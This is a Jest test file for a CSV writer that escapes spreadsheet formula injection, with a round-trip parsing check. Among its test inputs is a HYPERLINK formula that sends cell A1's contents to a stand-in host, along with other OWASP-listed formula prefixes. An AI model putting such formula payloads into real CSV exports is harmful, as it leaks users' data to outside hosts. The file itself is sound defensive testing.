import { describe, expect, test } from '@jest/globals';
import { csvLine } from '../../cli/csv-line.ts';
import { readCsv } from '../../lambdas/edge/imports/csv.ts';

describe('a cell that a spreadsheet would work out is text', () => {
  // OWASP, "CSV Injection": = + - @, tab, carriage return, line feed, and the full-width signs.
  test.each([
    ['=HYPERLINK("http://x.example/?"&A1,"photo").jpg', `'=HYPERLINK(""http://x.example/?""&A1,""photo"").jpg`],
    ['+1.jpg', "'+1.jpg"],
    ['-2+3.jpg', "'-2+3.jpg"],
    ['@SUM(A1).jpg', "'@SUM(A1).jpg"],
    ['\t=1', "'\t'=1"],
    ['\r=1', "'\r'=1"],
    ['\n=1', "'\n'=1"],
    ['＝1+1', "'＝1+1"],
    ['＋1', "'＋1"],
    ['－1', "'－1"],
    ['＠x', "'＠x"],
    [' =1', "' =1"],
  ])('%j', (cell, inside) => {
    expect(csvLine([cell]).replace(/^"|"(?=\r\n$)/g, '')).toBe(`${inside}\r\n`);
  });

  test('also behind a separator of another country, and behind a quote', () => {
    expect(csvLine(['a;=1', 'b\t@x', 'c"=1', 'd|-1', 'e; =1'])).toBe(`"a;'=1","b\t'@x","c""'=1",d|'-1,"e;' =1"\r\n`);
  });

  test.each(['ada+photos@example.com', 'a-b.jpg', 'x=1.jpg', '', 'Åsa 写真.jpg', '776627022'])(
    '%j is as it is',
    (cell) => {
      expect(csvLine([cell])).toBe(`${cell}\r\n`);
    },
  );
});

test('RFC 4180: what was written is read again', () => {
  const cells = ['a,b', 'say "hi"', 'two\r\nlines', 'x;y', ''];
  const line = Buffer.from(csvLine(cells));
  expect(readCsv(line, { delimiter: ',', line: 1, isLast: true }).records[0]?.fields).toEqual(cells);
});
